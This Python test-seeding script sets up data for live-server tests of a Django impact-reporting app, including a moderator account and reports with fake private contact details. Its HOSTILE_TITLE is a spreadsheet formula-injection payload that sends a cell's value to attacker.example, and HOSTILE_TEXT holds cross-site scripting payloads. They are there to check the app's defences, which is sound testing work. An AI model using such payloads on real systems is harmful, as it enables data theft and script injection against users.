"""Test data for the live server, written with the ORM into the live server's own database.

Run by tests/live/conftest.py as `python -m tests.live.seed COMMAND [ARG]` with the server's
environment; prints one JSON object.

    setup           a plain moderator with a TOTP device, a published report with private contact
                    details and hostile text, a report waiting for the reporter's answer
    publish TITLE   publish the newest report with this title and approve its evidence
    count TITLE     how many reports have this title
"""

import json
import os
import secrets
import sys

import django

os.environ.setdefault("DJANGO_SETTINGS_MODULE", "kzcn.settings")
django.setup()

from django.contrib.auth.models import Group, User  # noqa: E402
from django.utils import timezone  # noqa: E402
from django_otp.plugins.otp_totp.models import TOTPDevice  # noqa: E402

from impacts.models import EvidenceVisibility, ImpactReport, Status  # noqa: E402
from tests.reports import make_report  # noqa: E402

PRIVATE = {
    "reporter_name": "Zarina Secretova",
    "contact_email": "zz-secret-reporter@example.org",
    "contact_phone": "+7 701 555 0123",
    "latitude": "43.25678",
    "longitude": "76.94567",
}
HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
HOSTILE_TEXT = '<img src="http://attacker.example/x.png" onerror="alert(1)"> <a href="javascript:alert(2)">see</a>'


def setup() -> dict:
    password = secrets.token_urlsafe(18)
    moderator = User.objects.create_user("live-moderator", "live-moderator@example.org", password, is_staff=True)
    moderator.groups.add(Group.objects.get(name="Moderators"))
    device = TOTPDevice.objects.create(user=moderator, name="phone", confirmed=True)

    published = make_report(
        status=Status.PUBLISHED, title=HOSTILE_TITLE, description=HOSTILE_TEXT, public_title=HOSTILE_TITLE,
        public_description=HOSTILE_TEXT, public_latitude="43.26", public_longitude="76.95",
        published_at=timezone.now(), attribution="anonymous", **PRIVATE,
    )  # fmt: skip
    waiting = make_report(status=Status.NEEDS_INFO, title="Waiting for the reporter")
    token = waiting.issue_tracking_token()
    waiting.save()
    return {
        "moderator": {"username": moderator.username, "password": password, "device": device.persistent_id,
                      "key": device.key},
        "published": {"reference": published.reference, "pk": published.pk},
        "waiting": {"reference": waiting.reference, "token": token},
        "private": PRIVATE,
        "hostile_title": HOSTILE_TITLE,
    }  # fmt: skip


def publish(title: str) -> dict:
    report = ImpactReport.objects.filter(title=title).latest("created")
    ImpactReport.objects.filter(pk=report.pk).update(
        status=Status.PUBLISHED, public_title=report.title, public_description=report.description,
        published_at=timezone.now(),
    )  # fmt: skip
    report.evidence.update(visibility=EvidenceVisibility.APPROVED)
    return {"reference": report.reference, "evidence": list(report.evidence.values_list("pk", "kind"))}


def count(title: str) -> dict:
    return {"count": ImpactReport.objects.filter(title=title).count()}


if __name__ == "__main__":
    command, *args = sys.argv[1:]
    print(json.dumps({"setup": setup, "publish": publish, "count": count}[command](*args)))
